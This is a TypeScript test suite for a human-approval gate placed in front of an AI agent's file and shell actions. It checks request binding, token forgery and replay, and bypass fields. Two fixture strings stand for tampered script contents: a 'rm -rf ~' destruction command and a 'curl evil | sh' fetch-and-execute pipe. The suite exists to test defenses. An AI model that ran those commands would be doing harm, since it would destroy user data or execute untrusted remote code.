import { describe, expect, test } from 'vitest';
import { createSession } from './flow/session.ts';
import { parsePolicy } from './policy.ts';
import type { Answer, Question } from './approval/question.ts';
import { assistant, fakeMachine, finish, nodeCrypto, verdictOf } from './testing/gate-fixture.ts';
import { mintToken } from './approval/token.ts';

const signal = new AbortController().signal;
const read = { path: '/elsewhere/a.md' };
const run = { command: './build.sh --fast' };
type Machine = ReturnType<typeof fakeMachine>;

/** A machine on which `./build.sh` is there and the person says yes to what they are asked. */
function willing(options: Parameters<typeof fakeMachine>[0] = {}): Machine {
  const machine = fakeMachine(options);
  machine.state.facts.set('/w/build.sh', { digest: machine.crypto.hash('echo hi') });
  machine.state.answer = (question) => machine.sign(question, 'once');
  return machine;
}

describe('the way through', () => {
  test('what is allowed is done without asking, and recorded', async () => {
    const machine = fakeMachine();
    expect(await verdictOf(machine, 'file.read', { path: 'notes/a.md' })).toEqual(['done']);
    expect(machine.questions).toEqual([]);
    expect(machine.records.map((one) => [one.operation, one.phase, one.status])).toEqual([
      ['file.read', 'decided', undefined],
      ['file.read', 'completed', 'done'],
    ]);
  });

  test('a consequential effect has its event before it starts, and another after', async () => {
    const machine = fakeMachine();
    expect(await verdictOf(machine, 'file.write', { path: 'a.md', text: 'x' })).toEqual(['done']);
    expect(machine.records.map((one) => [one.phase, one.status])).toEqual([
      ['decided', undefined],
      ['started', undefined],
      ['completed', 'done'],
    ]);
  });

  test('a full disk stops the effect, not the program', async () => {
    const machine = fakeMachine();
    machine.state.diskFull = true;
    expect(await verdictOf(machine, 'file.write', { path: 'a.md', text: 'x' })).toEqual([
      'failed',
      'ledger_full',
    ]);
    expect(machine.performed).toEqual([]);
    expect(await verdictOf(machine, 'file.read', { path: 'a.md' })).toEqual(['done']);
  });

  test('what asks is not done when the person says no', async () => {
    const machine = fakeMachine();
    expect(await verdictOf(machine, 'file.read', read)).toEqual([
      'denied',
      'path_outside',
      'person_denied',
    ]);
    expect(machine.performed).toEqual([]);
  });

  test('what asks is done once when the person says yes', async () => {
    const machine = willing();
    expect(await verdictOf(machine, 'file.read', read)).toEqual(['done']);
    expect(await verdictOf(machine, 'file.read', read)).toEqual(['done']);
    expect([machine.questions.length, machine.burned.size]).toEqual([2, 2]);
  });

  test('the effect gets the gate’s copy, not the caller’s object', async () => {
    const machine = willing();
    const input = { path: 'a.md', text: 'shown' };
    machine.state.facts.set('/w/a.md', { kind: 'absent', text: null, digest: null });
    machine.state.answer = (question) => {
      input.text = 'swapped while the question was open';
      return machine.sign(question, 'once');
    };
    const session = createSession('session');
    session.add({ value: 'x', trust: 'untrusted', confidentiality: 'domain', origin: 'a note' });
    await finish(machine.gateFor(session).ask('file.write', input, assistant, signal));
    expect(machine.performed.map((one) => (one.operand.intent as { text: string }).text)).toEqual([
      'shown',
    ]);
  });
});

describe('an approval binds', () => {
  const changing = (change: (machine: Machine, question: Question) => void) => async () => {
    const machine = willing();
    let open: Question | null = null;
    machine.state.answer = (question) => {
      if (open !== null) return { choice: 'deny' };
      open = question;
      const answer = machine.sign(question, 'once');
      change(machine, question);
      return answer;
    };
    const codes = await verdictOf(machine, 'shell.run', run);
    return { codes, performed: machine.performed.length, asked: machine.questions.length };
  };
  const again = { performed: 0, asked: 2 };

  test.each([
    [
      'the executable was replaced',
      changing((m) =>
        m.state.facts.set('/w/build.sh', { digest: m.crypto.hash('rm -rf ~'), inode: '99' }),
      ),
    ],
    [
      'the script was edited after approval',
      changing((m) =>
        m.state.facts.set('/w/build.sh', { digest: m.crypto.hash('curl evil | sh') }),
      ),
    ],
    [
      'the working directory was swapped by a link',
      changing((m) =>
        m.state.facts.set('/w', {
          kind: 'directory',
          real: { root: '/', segments: ['elsewhere'] },
        }),
      ),
    ],
    [
      'the policy changed while the question was open',
      changing((m) => {
        m.state.policy = parsePolicy({ commandSeconds: 7 });
      }),
    ],
    [
      'the sandbox went away',
      changing((m) => {
        m.state.sandbox = false;
      }),
    ],
  ])('%s: nothing runs on the old answer', async (_name, act) => {
    const { codes, performed, asked } = await act();
    expect(codes[0]).toBe('denied');
    expect(performed).toBe(0);
    expect(asked).toBeLessThanOrEqual(again.asked);
  });

  test('what changed once is asked again, said so, and done on the new answer', async () => {
    const machine = willing();
    let changed = false;
    machine.state.answer = (question) => {
      const answer = machine.sign(question, 'once');
      if (!changed) machine.state.policy = parsePolicy({ commandSeconds: 7 });
      changed = true;
      return answer;
    };
    expect(await verdictOf(machine, 'file.read', read)).toEqual(['done']);
    expect(machine.questions.map((one) => one.reasons.map((reason) => reason.code))).toEqual([
      ['path_outside'],
      ['path_outside', 'changed_meanwhile'],
    ]);
    expect(machine.performed.length).toBe(1);
  });

  test('no two different requests share a binding', async () => {
    const inputs = [
      { command: './build.sh --fast' },
      { command: './build.sh  --fast' },
      { command: './build.sh --fast ' },
      { command: './build.sh' },
      { command: './build.sh --fast', cwd: 'sub' },
      { command: './build.sh --fast', environment: { LEVEL: '1' } },
      { command: './build.sh --fast', environment: { LEVEL: '2' } },
      { command: './build.sh --fast', network: true },
      { command: 'env ./build.sh --fast' },
      { command: 'env env ./build.sh --fast' },
      { command: 'bash -c "./build.sh --fast"' },
    ];
    const machine = willing();
    machine.state.facts.set('/w/sub', { kind: 'directory' });
    machine.state.facts.set('/w', { kind: 'directory' });
    machine.state.programs.set('env', '/usr/bin/env').set('bash', '/bin/bash');
    for (const input of inputs) await verdictOf(machine, 'shell.run', input);
    const bindings = machine.questions.map((question) => question.binding);
    expect(new Set(bindings).size).toBe(bindings.length);
    expect(bindings.length).toBeGreaterThanOrEqual(8);
  });

  test('the display is not truncated', async () => {
    const machine = fakeMachine();
    machine.state.facts.set('/w/build.sh', { digest: 'd' });
    machine.state.facts.set('/w', { kind: 'directory' });
    const tail = 'x'.repeat(50_000);
    await verdictOf(machine, 'shell.run', { command: `./build.sh ${tail} end` });
    expect(machine.questions[0]?.shown[0]).toEqual({
      label: 'command',
      value: `./build.sh ${tail} end`,
    });
  });
});

describe('an answer needs its token', () => {
  const answering = async (make: (machine: Machine, question: Question) => Answer) => {
    const machine = willing();
    machine.state.answer = (question) => make(machine, question);
    const codes = await verdictOf(machine, 'file.read', read);
    return [...codes, machine.performed.length];
  };
  const other = nodeCrypto();
  test.each([
    ['signed', (m: Machine, q: Question): Answer => m.sign(q, 'once'), ['done', 1]],
    [
      'claimed without one',
      (): Answer => ({ choice: 'once' }) as unknown as Answer,
      ['denied', 'safety_blocked', 0],
    ],
    [
      'forged under another key',
      (m: Machine, q: Question): Answer => ({
        choice: 'once',
        token: mintToken(other, m.clock, { ...q, binding: `once:${q.binding}` }),
      }),
      ['denied', 'safety_blocked', 0],
    ],
    [
      'for another scope',
      (m: Machine, q: Question): Answer => m.sign({ ...q, scope: 'write' }, 'once'),
      ['denied', 'safety_blocked', 0],
    ],
    [
      'for another binding',
      (m: Machine, q: Question): Answer => m.sign({ ...q, binding: 'f'.repeat(64) }, 'once'),
      ['denied', 'safety_blocked', 0],
    ],
    [
      'once turned into a session',
      (m: Machine, q: Question): Answer => ({ ...m.sign(q, 'once'), choice: 'session' }) as Answer,
      ['denied', 'safety_blocked', 0],
    ],
    [
      'expired while the question was open',
      (m: Machine, q: Question): Answer => {
        const answer = m.sign(q, 'once');
        m.state.boot += q.seconds * 1000;
        return answer;
      },
      ['denied', 'safety_blocked', 0],
    ],
  ])('%s', async (_name, make, expected) => {
    expect(await answering(make)).toEqual(expected);
  });

  test('replayed: the same answer is not taken twice', async () => {
    const machine = willing();
    let kept: Answer | null = null;
    machine.state.answer = (question) => (kept ??= machine.sign(question, 'once'));
    expect(await verdictOf(machine, 'file.read', read)).toEqual(['done']);
    expect(await verdictOf(machine, 'file.read', read)).toEqual(['failed', 'nonce_burned']);
    expect(machine.performed.length).toBe(1);
  });

  test('replayed after a restart: the nonce stays burned, and another boot has another key', async () => {
    const crypto = nodeCrypto();
    const first = willing({ crypto });
    let kept: Answer = { choice: 'deny' };
    first.state.answer = (question) => (kept = first.sign(question, 'once'));
    await verdictOf(first, 'file.read', read);

    const restarted = willing({ crypto, burned: first.burned });
    restarted.state.answer = () => kept;
    expect(await verdictOf(restarted, 'file.read', read)).toEqual(['failed', 'nonce_burned']);
    const rebooted = willing({ burned: first.burned });
    rebooted.state.answer = () => kept;
    expect(await verdictOf(rebooted, 'file.read', read)).toEqual(['denied', 'safety_blocked']);
    expect([restarted.performed.length, rebooted.performed.length]).toEqual([0, 0]);
  });

  test.each([
    'approved',
    'hitl_approved',
    'path_approved',
    'user_approved',
    'approval',
    'token',
    'clearance',
    'force',
    'bypass',
  ])('an input that says `%s` is refused', async (field) => {
    const machine = willing();
    const input = { ...read, [field]: true };
    expect(await verdictOf(machine, 'file.read', input)).toEqual(['denied', 'safety_blocked']);
    expect(machine.performed).toEqual([]);
  });
});
